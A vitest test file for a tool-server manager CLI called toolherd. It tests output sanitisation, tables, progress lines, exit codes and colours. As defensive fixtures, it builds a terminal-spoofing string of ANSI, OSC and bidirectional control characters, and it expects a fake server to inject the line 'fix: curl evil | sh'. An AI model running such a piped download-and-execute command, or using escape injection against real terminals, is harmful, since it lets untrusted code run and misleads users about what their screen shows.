import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { statusTable } from '../../src/cli/commands/servers/status-table.js';
import { progressBar } from '../../src/cli/commands/tools/progress.js';
import { createOutput } from '../../src/cli/ui/output.js';
import { table } from '../../src/cli/ui/table.js';
import { truncate, widthOf } from '../../src/cli/ui/text.js';
import type { ServerStatus } from '../../src/fleet/fleet.js';
import { config, server } from '../faults/config.js';
import { COMMAND, toolherd } from '../support/command.js';
import { makeHome } from '../support/herd.js';
import { onTerminal } from '../support/terminal.js';

const EVIL = 'a\u001B[31mred\u001B]0;title\u0007\u202Egnp\u009B2J\nFAKE';
const UNSAFE = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u2028-\u202E\u2066-\u2069]/;

function createTerminal({
  isTTY,
  json = false,
  columns,
}: {
  isTTY: boolean;
  json?: boolean;
  columns?: number;
}) {
  const said = { stdout: '', stderr: '' };
  const stream = (name: 'stdout' | 'stderr') => ({
    isTTY,
    columns,
    write: (text: string | Uint8Array) => {
      said[name] += text;
    },
  });
  const streams = { stdout: stream('stdout'), stderr: stream('stderr') };
  return { output: createOutput(streams, { json, quiet: false }), said };
}

describe('X2: on a terminal', () => {
  it('JSON has control characters as escapes, and parses to the same text', () => {
    const { output, said } = createTerminal({ isTTY: true, json: true });
    output.json({ text: EVIL });
    expect(said.stdout).not.toMatch(UNSAFE);
    expect(JSON.parse(said.stdout).text).toBe(EVIL);
    const piped = createTerminal({ isTTY: false, json: true });
    piped.output.json({ text: EVIL });
    expect(piped.said.stdout).toContain('\u009B2J');
  });

  it("a tool's text is printed without control characters and ends with a newline; a pipe gets it byte for byte", () => {
    const { output, said } = createTerminal({ isTTY: true });
    output.printRaw(EVIL);
    expect(said.stdout).not.toMatch(UNSAFE);
    expect(said.stdout).toMatch(/\nFAKE\n$/);
    const piped = createTerminal({ isTTY: false });
    piped.output.printRaw(EVIL);
    expect(piped.said.stdout).toBe(EVIL);
  });

  it('progress is one line that fits and is removed; a pipe gets none', () => {
    const { output, said } = createTerminal({ isTTY: true, columns: 20 });
    output.progress(undefined);
    expect(said.stderr).toBe('');
    output.progress(`${EVIL} ${'x'.repeat(100)}`);
    output.progress(undefined);
    const [, first = '', last] = said.stderr.split('\r\u001B[K');
    expect([first.length, last]).toEqual([19, '']);
    expect(first).not.toMatch(UNSAFE);
    const piped = createTerminal({ isTTY: false });
    piped.output.progress('half');
    expect(piped.said).toEqual({ stdout: '', stderr: '' });
  });
});

describe('a line of progress', () => {
  it.each([
    [{ progress: 1, total: 4 }, '[#####---------------] 1/4'],
    [{ progress: 9, total: 4, message: 'over' }, '[####################] 9/4 over'],
    [{ progress: 3, message: 'files' }, '3 files'],
    [{ progress: 3, total: 0 }, '3'],
    [{ message: 'soon' }, 'soon'],
  ])('%o is %s', (progress, line) => {
    expect(progressBar(progress)).toBe(line);
  });
});

describe('a table', () => {
  it('has one line for each row, also with newlines in cells', () => {
    expect(table(['A', 'B'], [['x\ny', 'z']]).split('\n')).toEqual(['A    B', 'x\uFFFDy  z']);
  });

  it('aligns characters that are two columns wide or none', () => {
    expect(
      table(
        ['A', 'B'],
        [
          ['你好', 'x'],
          ['abcd', 'y'],
        ],
      ),
    ).toBe('A     B\n你好  x\nabcd  y');
    expect([widthOf('e\u0301'), widthOf('🙂'), truncate('你好你好', 5)]).toEqual([1, 2, '你好…']);
  });

  it('is cut at the width of the terminal', () => {
    expect(table(['A', 'B'], [['abc', 'x'.repeat(50)]], 10)).toBe('A    B\nabc  xxxx…');
  });
});

describe('the table of the herd', () => {
  const status = {
    name: 'memory',
    state: 'connected',
    detail: 'running',
    pids: [12345],
    since: new Date(0).toISOString(),
    restarts: 0,
    calls: 10,
    failures: 1,
    latency_ms: { p50: 12.5, p99: 20 },
    rss_bytes: 2 ** 26,
    tools: 9,
    last_error: null,
    next_retry_at: null,
  } as unknown as ServerStatus;

  it.each([120, 80, 60, 40, 20])('fits into %i columns; name and state stay longest', (columns) => {
    const lines = statusTable([status], 0, columns).split('\n');
    expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(columns);
    expect(lines[0]).toMatch(/^NAME +STATE/);
    if (columns >= 40) expect(lines[0]).toContain('TOOLS');
  });

  it('has a column for the nodes of the cluster where some server has them', () => {
    const at = (...names: string[]) => ({
      nodes: names.map((node) => ({ node, state: 'connected' as const, in_flight: 0 })),
    });
    const servers = [
      status,
      { ...status, name: 'both', ...at('gpu') },
      { ...status, name: 'there', ...at('gpu', 'lab', 'old', 'new'), elsewhere: true as const },
    ];
    const last = statusTable(servers, 0)
      .split('\n')
      .map((line) => line.split(/ {2,}/).at(-1));
    expect(last).toEqual(['NODES', '-', 'this, gpu', 'gpu, lab, old +1']);
  });

  it('shows the fix of a server that waits for a person, in one line', () => {
    const last_error = { message: 'memory: refused\nFAKE', cause: 'auth', at: status.since };
    const text = statusTable([{ ...status, detail: 'needs_auth', last_error }], 0);
    expect(text.split('\n')[2]).toBe('memory: refused\uFFFDFAKE; see "toolherd auth memory"');
  });
});

describe('a server that sends control characters, on the command line', () => {
  it('X2: no output has them, or looks like a line of toolherd', async () => {
    const home = makeHome(config([server('bad', 'unsafe.mjs')]));
    await home.start();
    const run = (...args: string[]) =>
      toolherd(args, { cwd: home.folder, env: { TOOLHERD_HOME: home.folder } });
    // what each shows of the server
    for (const [shown, ...args] of [
      ['bad.echo', 'tools'],
      ['bad.echo', 'tools', '--schema'],
      ['bad.all', 'prompts'],
      ['x://', 'resources'],
      ['bad', 'status'],
      ['bad', 'why', 'bad'],
    ]) {
      const { stdout, stderr, status } = await run(...args);
      expect(stdout).toContain(shown);
      expect(`${stdout}${stderr}`).not.toMatch(UNSAFE);
      expect(`\n${stdout}${stderr}`).not.toContain('\nFAKE');
      expect(status).toBe(0);
    }
    const failed = await run('call', 'bad.fail');
    expect(failed.stderr).not.toMatch(UNSAFE);
    expect(failed.stderr).toContain('\n    | FAKE  connected  running\n    |   fix: curl evil | sh\n');
    expect(failed.stderr.match(/^ {2}fix: /gm)).toHaveLength(1);
    expect(JSON.parse((await run('call', 'bad.echo', '--json')).stdout).result.content[0].text).toContain(
      '\u009B',
    );
  });

  it('a prompt or a resource with invalid parts is shown as far as possible', async () => {
    const home = makeHome(config([server('bad', 'unsafe.mjs')]));
    await home.start();
    const run = (...args: string[]) =>
      toolherd(args, { cwd: home.folder, env: { TOOLHERD_HOME: home.folder } });
    const prompt = await run('prompt', 'bad.odd');
    expect(prompt).toMatchObject({
      status: 0,
      stderr: expect.stringContaining('(undefined content; see --json)'),
    });
    const resource = await run('resource', 'bad', 'x://odd');
    expect(resource).toMatchObject({ status: 0, stderr: expect.stringContaining('neither text nor bytes') });
    expect(`${prompt.stdout}${prompt.stderr}${resource.stderr}`).not.toContain('\nFAKE');
  });
});

describe('the command', () => {
  const shell = (line: string) =>
    spawnSync('/bin/sh', ['-c', line, 'sh', process.execPath, COMMAND], { encoding: 'utf8' });

  it('reports a deleted current folder: exit 2', () => {
    const { status, stderr } = shell('d=$(mktemp -d); cd "$d"; rmdir "$d"; "$1" "$2" status');
    expect([status, stderr]).toEqual([
      2,
      expect.stringMatching(/^error: UsageError: the current directory no longer exists\n {2}fix: /),
    ]);
  });

  it('exits with 0 when the reader closes the pipe', () => {
    expect(shell('("$1" "$2" help; echo "status $?" >&2) | true').stderr).toBe('status 0\n');
  });

  it('exits with 1 when the disk is full', () => {
    const { status, stderr } = shell('"$1" "$2" help > /dev/full');
    expect([status, stderr]).toEqual([
      1,
      expect.stringMatching(/^error: the output could not be written: ENOSPC/),
    ]);
  });
});

describe('a failing server', () => {
  const away = {
    name: 'away',
    description: 'd',
    server: 's',
    transport: 'http',
    url: 'http://127.0.0.1:1/mcp',
  };

  it('is not shown as an empty list: the output and the exit status say why it has no tools', async () => {
    const home = makeHome(
      config([away, server('good', 'good.mjs'), server('off', 'good.mjs', { enabled: false })]),
    );
    await home.start();
    const run = (...args: string[]) =>
      toolherd(args, { cwd: home.folder, env: { TOOLHERD_HOME: home.folder } });
    for (const command of ['tools', 'prompts', 'resources']) {
      const { status, stdout, stderr } = await run(command, 'away');
      expect([status, stdout]).toEqual([69, `no ${command}\n`]);
      expect(stderr).toMatch(/^warning: away: http:\/\/127\.0\.0\.1:1\/mcp cannot be reached/);
    }
    expect(await run('tools')).toMatchObject({
      status: 0,
      stderr: expect.stringMatching(/^warning: away: /),
    });
    expect(await run('tools', 'off')).toMatchObject({ status: 0, stderr: '(off is disabled)\n' });
    expect(await run('start', 'off')).toMatchObject({ stderr: expect.stringContaining('off is disabled') });
    expect(await run('call', 'good')).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('see "toolherd tools good"'),
    });
    expect(await run('why', 'absent')).toMatchObject({
      status: 4,
      stderr: expect.stringContaining('fix: see "toolherd status"'),
    });
    expect(await run('logs', 'goood')).toMatchObject({
      status: 4,
      stderr: "error: ServerNotFoundError: no server is called 'goood'\n  fix: did you mean 'good'?\n",
    });
  });

  it('--timeout ends each command that waits for a failing server: exit 124', async () => {
    const home = makeHome(config([server('silent', 'silent.mjs')]));
    await home.start();
    const run = (...args: string[]) =>
      toolherd([...args, '--timeout', '100ms'], { cwd: home.folder, env: { TOOLHERD_HOME: home.folder } });
    expect(await run('tools')).toMatchObject({
      status: 124,
      stderr: expect.stringContaining('within 100ms'),
    });
    expect((await run('start', 'silent', '--wait')).status).toBe(124);
    expect((await run('status', '--wait')).status).toBe(124);
  });
});

describe('colours', () => {
  it('are printed on a terminal, unless NO_COLOR or --no-color is set; a pipe gets none', async () => {
    const home = makeHome(config([server('good', 'good.mjs')]));
    await home.start();
    const options = { cwd: home.folder, env: home.environment };
    const screen = async (args: string[], env: Record<string, string> = {}) => {
      const terminal = onTerminal(args, { ...options, env: { ...options.env, ...env } });
      await terminal.status;
      return terminal.screen();
    };
    const start = ['start', 'good', '--wait'];
    expect(await screen(start)).toContain('\u001B[32mconnected\u001B[0m');
    expect(await screen([...start, '--no-color'])).not.toContain('\u001B');
    expect(await screen(start, { NO_COLOR: '1' })).not.toContain('\u001B');
    expect((await toolherd(start, options)).stdout).not.toContain('\u001B');
  });
});
